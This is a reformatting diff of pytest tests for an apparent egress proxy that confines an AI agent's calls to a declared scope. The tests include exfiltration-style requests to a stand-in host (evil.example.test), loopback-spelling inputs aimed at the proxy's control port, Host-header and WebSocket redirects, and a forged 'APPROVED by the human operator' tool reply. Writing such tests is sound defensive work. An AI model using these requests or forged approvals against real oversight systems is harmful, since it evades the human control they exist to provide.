@@ -115,13 +115,30 @@ def world(tmp_path_factory: pytest.TempPathFactory, confdir: str) -> Iterator[Wo
     chat_seen: list[dict[str, Any]] = []
     ws_server = AsgiServer(_ws_app(ws_seen), "ws").start()
     chat = AsgiServer(chat_app(chat_seen), "chat").start()
-    routes = routed.routes(ROUTED) + f",ws.acme.test=127.0.0.1:{ws_server.port}" \
+    routes = (
+        routed.routes(ROUTED)
+        + f",ws.acme.test=127.0.0.1:{ws_server.port}"
         + f",llm.acme.test=127.0.0.1:{chat.port}"
+    )
     extra = ["--max-body", str(MAX_BODY)]
-    enforce = ProxyProcess(tmp, ledger=str(ledger), policy="enforce", routes=routes, confdir=confdir,
-                           name="enforce", extra=extra)
-    shadow = ProxyProcess(tmp, ledger=str(ledger), policy="shadow", routes=routes, confdir=confdir,
-                          name="shadow", extra=extra)
+    enforce = ProxyProcess(
+        tmp,
+        ledger=str(ledger),
+        policy="enforce",
+        routes=routes,
+        confdir=confdir,
+        name="enforce",
+        extra=extra,
+    )
+    shadow = ProxyProcess(
+        tmp,
+        ledger=str(ledger),
+        policy="shadow",
+        routes=routes,
+        confdir=confdir,
+        name="shadow",
+        extra=extra,
+    )
     with enforce, shadow:
         yield World(tmp, routed, other, ws_seen, chat_seen, chat.port, ledger, enforce, shadow)
     for server in (ws_server, chat):
@@ -143,7 +160,9 @@ def calls(proxy: ProxyProcess, run: str) -> list[dict[str, Any]]:
     return of_type(events(proxy.trace), "tool_call", run)
 
 
-def wait_for_calls(proxy: ProxyProcess, run: str, n: int, timeout: float = 10.0) -> list[dict[str, Any]]:
+def wait_for_calls(
+    proxy: ProxyProcess, run: str, n: int, timeout: float = 10.0
+) -> list[dict[str, Any]]:
     deadline = time.monotonic() + timeout
     while True:
         found = calls(proxy, run)
@@ -154,18 +173,24 @@ def wait_for_calls(proxy: ProxyProcess, run: str, n: int, timeout: float = 10.0)
 
 # -- 1. the Host header never decides where a call goes --------------------------------
 
+
 @pytest.mark.parametrize("mode", ["enforce", "shadow"])
 def test_host_header_cannot_redirect_a_call(world: World, mode: str) -> None:
     proxy, run = world.proxies()[mode], f"host-{mode}"
     marker = f"m-{mode}-host"
     with client(proxy, run) as c:
-        r = c.patch(f"http://127.0.0.1:{world.other.port}/customers/9999?{marker}",
-                    headers={"host": "crm.acme.test"}, json={"note": "x"})
+        r = c.patch(
+            f"http://127.0.0.1:{world.other.port}/customers/9999?{marker}",
+            headers={"host": "crm.acme.test"},
+            json={"note": "x"},
+        )
     got = received(world.other, marker)
     (call,) = wait_for_calls(proxy, run, 1)
     # Tagged by where the proxy connects: 127.0.0.1, which the ledger does not name.
     assert call["call"]["scope"] == "out"
-    assert ("host", "127.0.0.1", False) in [(t["kind"], t["value"], t["in_scope"]) for t in call["call"]["targets"]]
+    assert ("host", "127.0.0.1", False) in [
+        (t["kind"], t["value"], t["in_scope"]) for t in call["call"]["targets"]
+    ]
     assert any("Host header" in n for n in call["call"]["notes"])
     if mode == "enforce":
         assert got == [] and r.status_code == 421
@@ -182,22 +207,41 @@ def test_host_header_cannot_reach_the_control_port(world: World, mode: str) -> N
     assert r.status_code == 403 and r.json()["error"] == "offscope_refused"
 
 
-@pytest.mark.parametrize("spelling", ["127.0.0.1", "127.1", "0x7f000001", "2130706433", "0", "LOCALHOST",
-                                      "localhost.", "[::ffff:127.0.0.1]", "[::1]"])
+@pytest.mark.parametrize(
+    "spelling",
+    [
+        "127.0.0.1",
+        "127.1",
+        "0x7f000001",
+        "2130706433",
+        "0",
+        "LOCALHOST",
+        "localhost.",
+        "[::ffff:127.0.0.1]",
+        "[::1]",
+    ],
+)
 def test_no_loopback_spelling_reaches_the_control_port(world: World, spelling: str) -> None:
     proxy = world.enforce
-    for port, path in ((proxy.metrics_port, "/metrics"), (proxy.control_port, "/runs"),
-                       (proxy.control_port, "/runs/x/end")):
+    for port, path in (
+        (proxy.metrics_port, "/metrics"),
+        (proxy.control_port, "/runs"),
+        (proxy.control_port, "/runs/x/end"),
+    ):
         status, body = raw_request(proxy, "spelling", f"http://{spelling}:{port}{path}")
         assert status == 403 and b"offscope_refused" in body, (spelling, port, status, body[:200])
 
 
-def raw_request(proxy: ProxyProcess, run: str, target: str, host: str | None = None) -> tuple[int, bytes]:
+def raw_request(
+    proxy: ProxyProcess, run: str, target: str, host: str | None = None
+) -> tuple[int, bytes]:
     """Send exactly this absolute-form request line (clients normalise some spellings)."""
     auth = base64.b64encode(f"{run}:x".encode()).decode()
     authority = target.split("/")[2]
-    head = (f"GET {target} HTTP/1.1\r\nHost: {host or authority}\r\nProxy-Authorization: Basic {auth}\r\n"
-            "Connection: close\r\n\r\n")
+    head = (
+        f"GET {target} HTTP/1.1\r\nHost: {host or authority}\r\nProxy-Authorization: Basic {auth}\r\n"
+        "Connection: close\r\n\r\n"
+    )
     with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
         sock.sendall(head.encode())
         data = b""
@@ -209,14 +253,19 @@ def raw_request(proxy: ProxyProcess, run: str, target: str, host: str | None = N
 
 # -- 2. an LLM call is one to a declared LLM endpoint, nothing else ----------------------
 
+
 @pytest.mark.parametrize("mode", ["enforce", "shadow"])
 @pytest.mark.parametrize("path", ["/x/chat/completions", "/v1/responses", "/v1/messages"])
-def test_llm_looking_path_on_an_unnamed_host_is_a_tagged_call(world: World, mode: str, path: str) -> None:
+def test_llm_looking_path_on_an_unnamed_host_is_a_tagged_call(
+    world: World, mode: str, path: str
+) -> None:
     proxy, run = world.proxies()[mode], f"llm-{mode}-{path.replace('/', '_')}"
     marker = f"exfil-{mode}-{path}"
     with client(proxy, run) as c:
-        r = c.post(f"http://evil.example.test{path}",
-                   json={"model": "x", "messages": [{"role": "user", "content": marker}]})
+        r = c.post(
+            f"http://evil.example.test{path}",
+            json={"model": "x", "messages": [{"role": "user", "content": marker}]},
+        )
     got = received(world.routed, marker)
     (call,) = wait_for_calls(proxy, run, 1)
     assert call["call"]["scope"] == "out" and call["call"]["stage"] == "act"
@@ -229,6 +278,7 @@ def test_llm_looking_path_on_an_unnamed_host_is_a_tagged_call(world: World, mode
 
 # -- 3. no body goes upstream before it is read ------------------------------------------
 
+
 @pytest.mark.parametrize("mode", ["enforce", "shadow"])
 def test_body_over_the_streaming_threshold_is_held_and_inspected(world: World, mode: str) -> None:
     """9 MiB is past mitmproxy's 8 MiB streaming threshold but under --max-body."""
@@ -236,13 +286,21 @@ def test_body_over_the_streaming_threshold_is_held_and_inspected(world: World, m
     marker = f"big9-{mode}"
     body = json.dumps({"note": marker, "blob": "x" * (9 * 1024 * 1024)}).encode()
     with client(proxy, run) as c:
-        out = c.patch(f"http://crm.acme.test/customers/9999?{marker}", content=body,
-                      headers={"content-type": "application/json"})
-        inside = c.patch(f"http://crm.acme.test/customers/4411?{marker}-in", content=body,
-                         headers={"content-type": "application/json"})
+        out = c.patch(
+            f"http://crm.acme.test/customers/9999?{marker}",
+            content=body,
+            headers={"content-type": "application/json"},
+        )
+        inside = c.patch(
+            f"http://crm.acme.test/customers/4411?{marker}-in",
+            content=body,
+            headers={"content-type": "application/json"},
+        )
     got = received(world.routed, marker)
     assert inside.status_code == 200
-    assert [len(r["body"]) for r in got if "4411" in r["path"]] == [len(body)]  # in scope: forwarded whole
+    assert [len(r["body"]) for r in got if "4411" in r["path"]] == [
+        len(body)
+    ]  # in scope: forwarded whole
     blocked = [r for r in got if "9999" in r["path"]]
     evs = wait_for_calls(proxy, run, 2)
     out_call = next(e for e in evs if "9999" in e["call"]["url"])
@@ -258,8 +316,11 @@ def test_body_over_max_body(world: World, mode: str) -> None:
     marker = f"huge-{mode}"
     body = b'{"note": "' + marker.encode() + b'", "blob": "' + b"x" * (MAX_BODY + 1024) + b'"}'
     with client(proxy, run) as c:
-        r = c.patch(f"http://crm.acme.test/customers/4411?{marker}", content=body,
-                    headers={"content-type": "application/json"})
+        r = c.patch(
+            f"http://crm.acme.test/customers/4411?{marker}",
+            content=body,
+            headers={"content-type": "application/json"},
+        )
     got = received(world.routed, marker)
     (call,) = wait_for_calls(proxy, run, 1)
     if mode == "enforce":  # fails closed: refused whole, nothing sent, and recorded as such
@@ -282,8 +343,11 @@ def test_chunked_body_is_held_and_inspected(world: World, mode: str) -> None:
         yield b'"blob": "' + b"y" * (9 * 1024 * 1024) + b'"}'
 
     with client(proxy, run) as c:
-        r = c.patch(f"http://crm.acme.test/customers/9999?{marker}", content=chunks(),
-                    headers={"content-type": "application/json"})
+        r = c.patch(
+            f"http://crm.acme.test/customers/9999?{marker}",
+            content=chunks(),
+            headers={"content-type": "application/json"},
+        )
     got = received(world.routed, marker)
     (call,) = wait_for_calls(proxy, run, 1)
     assert call["call"]["scope"] == "out"
@@ -295,9 +359,17 @@ def test_chunked_body_is_held_and_inspected(world: World, mode: str) -> None:
 
 # -- 4. a body that should be read but cannot be is never waved through ------------------
 
+
 def _mcp_call(customer: int, marker: str, **extra: Any) -> dict[str, Any]:
-    return {"jsonrpc": "2.0", "id": extra.pop("id", 7), "method": "tools/call",
-            "params": {"name": "update_customer", "arguments": {"customer_id": customer, "note": marker, **extra}}}
+    return {
+        "jsonrpc": "2.0",
+        "id": extra.pop("id", 7),
+        "method": "tools/call",
+        "params": {
+            "name": "update_customer",
+            "arguments": {"customer_id": customer, "note": marker, **extra},
+        },
+    }
 
 
 def _encodings(marker: str) -> dict[str, tuple[bytes, dict[str, str]]]:
@@ -309,11 +381,19 @@ def _encodings(marker: str) -> dict[str, tuple[bytes, dict[str, str]]]:
         "gzip": (gzip.compress(plain), {**ctype, "content-encoding": "gzip"}),
         "utf8-bom": (codecs.BOM_UTF8 + plain, ctype),
         "utf16": (plain.decode().encode("utf-16"), ctype),
-        "utf16-charset": (plain.decode().encode("utf-16-le"), {**ctype, "content-type": "application/json; charset=utf-16-le"}),
+        "utf16-charset": (
+            plain.decode().encode("utf-16-le"),
+            {**ctype, "content-type": "application/json; charset=utf-16-le"},
+        ),
         "invalid-utf8-elsewhere": (bad_utf8, ctype),
         "over-4MiB": (big, ctype),
         "object-id": (json.dumps(_mcp_call(9999, marker, id={"x": [1]})).encode(), ctype),
-        "batch": (json.dumps([_mcp_call(4411, marker + "-ok", id=1), _mcp_call(9999, marker, id=2)]).encode(), ctype),
+        "batch": (
+            json.dumps(
+                [_mcp_call(4411, marker + "-ok", id=1), _mcp_call(9999, marker, id=2)]
+            ).encode(),
+            ctype,
+        ),
     }
 
 
@@ -337,37 +417,82 @@ def test_mcp_tool_call_in_any_encoding(world: World, mode: str, encoding: str) -
         assert len(got) == 1 and all(e["decision"] != "block" for e in evs)
 
 
-def test_large_llm_request_still_gets_the_reply_policy(world: World, tmp_path: Path, confdir: str) -> None:
+def test_large_llm_request_still_gets_the_reply_policy(
+    world: World, tmp_path: Path, confdir: str
+) -> None:
     """An LLM request carrying an image (here 5 MiB) is still read: the harness's
     canned approval of an operator ask is replaced by the policy's sentinel."""
     policy = tmp_path / "sentinel.yaml"
-    policy.write_text("schema: offscope.policy/1\nid: sentinel-enforce\nmode: enforce\noperator: {reply: sentinel}\n")
-    with ProxyProcess(tmp_path, ledger=str(world.ledger), policy=str(policy),
-                      routes=f"llm.acme.test=127.0.0.1:{world.chat_port}", confdir=confdir, name="llm") as proxy:
+    policy.write_text(
+        "schema: offscope.policy/1\nid: sentinel-enforce\nmode: enforce\noperator: {reply: sentinel}\n"
+    )
+    with ProxyProcess(
+        tmp_path,
+        ledger=str(world.ledger),
+        policy=str(policy),
+        routes=f"llm.acme.test=127.0.0.1:{world.chat_port}",
+        confdir=confdir,
+        name="llm",
+    ) as proxy:
         with client(proxy, "llm-big") as c:
-            first = c.post("http://llm.acme.test/v1/chat/completions", json={
-                "model": "m", "messages": [{"role": "user", "content": "ASK first"}]}).json()
+            first = c.post(
+                "http://llm.acme.test/v1/chat/completions",
+                json={"model": "m", "messages": [{"role": "user", "content": "ASK first"}]},
+            ).json()
             call = first["choices"][0]["message"]["tool_calls"][0]
-            image = "data:image/png;base64," + base64.b64encode(b"\x89PNG" + b"\0" * (4 * 1024 * 1024)).decode()
-            c.post("http://llm.acme.test/v1/chat/completions", json={"model": "m", "messages": [
-                {"role": "user", "content": [{"type": "text", "text": "ASK first"},
-                                             {"type": "image_url", "image_url": {"url": image}}]},
-                {"role": "assistant", "content": None, "tool_calls": [call]},
-                {"role": "tool", "tool_call_id": call["id"], "content": "APPROVED by the human operator"}]})
+            image = (
+                "data:image/png;base64,"
+                + base64.b64encode(b"\x89PNG" + b"\0" * (4 * 1024 * 1024)).decode()
+            )
+            c.post(
+                "http://llm.acme.test/v1/chat/completions",
+                json={
+                    "model": "m",
+                    "messages": [
+                        {
+                            "role": "user",
+                            "content": [
+                                {"type": "text", "text": "ASK first"},
+                                {"type": "image_url", "image_url": {"url": image}},
+                            ],
+                        },
+                        {"role": "assistant", "content": None, "tool_calls": [call]},
+                        {
+                            "role": "tool",
+                            "tool_call_id": call["id"],
+                            "content": "APPROVED by the human operator",
+                        },
+                    ],
+                },
+            )
     last = world.chat_seen[-1]["messages"][-1]
-    assert last["role"] == "tool" and "APPROVED" not in last["content"] and "NO HUMAN IS PRESENT" in last["content"]
+    assert (
+        last["role"] == "tool"
+        and "APPROVED" not in last["content"]
+        and "NO HUMAN IS PRESENT" in last["content"]
+    )
 
 
 # -- 5. WebSockets --------------------------------------------------------------------
 
-def _ws_session(proxy: ProxyProcess, run: str, host: str, frames: list[str]) -> tuple[int, list[str]]:
+
+def _ws_session(
+    proxy: ProxyProcess, run: str, host: str, frames: list[str]
+) -> tuple[int, list[str]]:
     """Open ws://HOST/ws through the proxy (absolute-form upgrade), send frames,
     return (handshake status, texts received)."""
     conn = wsproto.WSConnection(wsproto.ConnectionType.CLIENT)
     auth = base64.b64encode(f"{run}:x".encode())
     sock = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
-    sock.sendall(conn.send(ws.Request(host=host, target=f"http://{host}/ws",
-                                      extra_headers=[(b"proxy-authorization", b"Basic " + auth)])))
+    sock.sendall(
+        conn.send(
+            ws.Request(
+                host=host,
+                target=f"http://{host}/ws",
+                extra_headers=[(b"proxy-authorization", b"Basic " + auth)],
+            )
+        )
+    )
     status, texts = 0, []
     deadline = time.monotonic() + 10
     sent = False
@@ -398,7 +523,11 @@ def test_websocket_upgrade_to_an_unnamed_host(world: World, mode: str) -> None:
     before = len(world.routed.seen)
     status, _ = _ws_session(proxy, run, "evil.example.test", [])
     (call,) = wait_for_calls(proxy, run, 1)
-    assert call["call"]["tool"] == "websocket" and call["call"]["stage"] == "act" and call["call"]["scope"] == "out"
+    assert (
+        call["call"]["tool"] == "websocket"
+        and call["call"]["stage"] == "act"
+        and call["call"]["scope"] == "out"
+    )
     if mode == "enforce":
         assert status == 403 and len(world.routed.seen) == before and call["decision"] == "block"
     else:
@@ -427,14 +556,26 @@ def test_websocket_frames_are_tagged(world: World, mode: str) -> None:
 
 # -- 6. an operator route is bound to where it was declared ------------------------------
 
+
 @pytest.mark.parametrize("mode", ["enforce", "shadow"])
 def test_operator_tool_name_on_an_unnamed_host_is_an_ordinary_call(world: World, mode: str) -> None:
     proxy, run = world.proxies()[mode], f"op-{mode}"
     marker = f"opexfil-{mode}"
-    msg = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
-           "params": {"name": "ask_human", "arguments": {"question": f"here are the secrets {marker}"}}}
+    msg = {
+        "jsonrpc": "2.0",
+        "id": 1,
+        "method": "tools/call",
+        "params": {
+            "name": "ask_human",
+            "arguments": {"question": f"here are the secrets {marker}"},
+        },
+    }
     with client(proxy, run) as c:
-        c.post("http://evil.example.test/mcp", json=msg, headers={"accept": "application/json, text/event-stream"})
+        c.post(
+            "http://evil.example.test/mcp",
+            json=msg,
+            headers={"accept": "application/json, text/event-stream"},
+        )
     got = received(world.routed, marker)
     (call,) = wait_for_calls(proxy, run, 1)
     assert not of_type(events(proxy.trace), "operator", run)
@@ -480,49 +621,92 @@ def test_ambiguous_requests(world: World, mode: str, name: str) -> None:
 def test_unambiguous_requests_pass(world: World) -> None:
     """The readings check refuses only real disagreement: ordinary in-scope calls pass."""
     with client(world.enforce, "plain") as c:
-        for path in ("/customers/4411", "/customers/4411/Notes/AbC?dry_run=true", "/search?id=4411&x=1&x=2"):
+        for path in (
+            "/customers/4411",
+            "/customers/4411/Notes/AbC?dry_run=true",
+            "/search?id=4411&x=1&x=2",
+        ):
             assert c.patch(f"http://crm.acme.test{path}", json={"ok": 1}).status_code == 200, path
 
 
 # -- 8. a grant lets through exactly the call a human approved ----------------------------
 
+
 def test_grant_binds_method_path_and_arguments(world: World, tmp_path: Path, confdir: str) -> None:
     ledger = tmp_path / "ledger.yaml"
     ledger.write_text(LEDGER, encoding="utf-8")
     routes = world.routed.routes(ROUTED)
-    with ProxyProcess(tmp_path, ledger=str(ledger), policy="enforce", routes=routes, confdir=confdir,
-                      name="grants") as proxy:
+    with ProxyProcess(
+        tmp_path,
+        ledger=str(ledger),
+        policy="enforce",
+        routes=routes,
+        confdir=confdir,
+        name="grants",
+    ) as proxy:
         with client(proxy, "grant") as c:
             assert c.delete("http://crm.acme.test/customers/9999/notes/17?g=1").status_code == 403
             (req,) = [json.loads(line) for line in proxy.requests.read_text().splitlines()]
-            subprocess.run(["offscope", "requests", "approve", req["id"], "--log", str(proxy.requests),
-                            "--ledger", str(ledger), "--approver", "ana@acme.test", "--expires", "1h"],
-                           check=True, capture_output=True)
+            subprocess.run(
+                [
+                    "offscope",
+                    "requests",
+                    "approve",
+                    req["id"],
+                    "--log",
+                    str(proxy.requests),
+                    "--ledger",
+                    str(ledger),
+                    "--approver",
+                    "ana@acme.test",
+                    "--expires",
+                    "1h",
+                ],
+                check=True,
+                capture_output=True,
+            )
             deadline = time.monotonic() + 15
             while c.delete("http://crm.acme.test/customers/9999/notes/17?g=1").status_code != 200:
                 assert time.monotonic() < deadline, "the grant was not picked up"
                 time.sleep(0.2)
             before = len(world.routed.seen)
             assert c.delete("http://crm.acme.test/customers/9999?g=2").status_code == 403
-            assert c.post("http://crm.acme.test/customers/9999/refund?g=3", json={"amount": 1}).status_code == 403
+            assert (
+                c.post(
+                    "http://crm.acme.test/customers/9999/refund?g=3", json={"amount": 1}
+                ).status_code
+                == 403
+            )
             assert c.delete("http://crm.acme.test/customers/9999/notes/18?g=4").status_code == 403
     assert [r for r in world.routed.seen[before:] if "g=" in r["path"]] == []
 
 
-def test_the_harness_human_marker_never_leaves_the_proxy(world: World, tmp_path: Path, confdir: str,
-                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_harness_human_marker_never_leaves_the_proxy(
+    world: World, tmp_path: Path, confdir: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The header that marks a person's reply carries the harness's secret: the
     proxy reads it and drops it; the LLM provider never receives it."""
     monkeypatch.setenv("OFFSCOPE_TEST_HUMAN_TOKEN", "hum4n-s3cret-t0ken")
     ledger = tmp_path / "ledger.yaml"
-    ledger.write_text(LEDGER + "humans:\n  llm_header: X-Human-Reply\n  token_env: OFFSCOPE_TEST_HUMAN_TOKEN\n")
+    ledger.write_text(
+        LEDGER + "humans:\n  llm_header: X-Human-Reply\n  token_env: OFFSCOPE_TEST_HUMAN_TOKEN\n"
+    )
     up = EchoUpstream().start()
     try:
-        with ProxyProcess(tmp_path, ledger=str(ledger), policy="shadow", routes=f"llm.acme.test=127.0.0.1:{up.port}",
-                          confdir=confdir, name="human") as proxy:
+        with ProxyProcess(
+            tmp_path,
+            ledger=str(ledger),
+            policy="shadow",
+            routes=f"llm.acme.test=127.0.0.1:{up.port}",
+            confdir=confdir,
+            name="human",
+        ) as proxy:
             with client(proxy, "human") as c:
-                c.post("http://llm.acme.test/v1/chat/completions", headers={"X-Human-Reply": "hum4n-s3cret-t0ken"},
-                       json={"model": "m", "messages": [{"role": "user", "content": "hello"}]})
+                c.post(
+                    "http://llm.acme.test/v1/chat/completions",
+                    headers={"X-Human-Reply": "hum4n-s3cret-t0ken"},
+                    json={"model": "m", "messages": [{"role": "user", "content": "hello"}]},
+                )
     finally:
         up.stop()
     (seen,) = up.seen
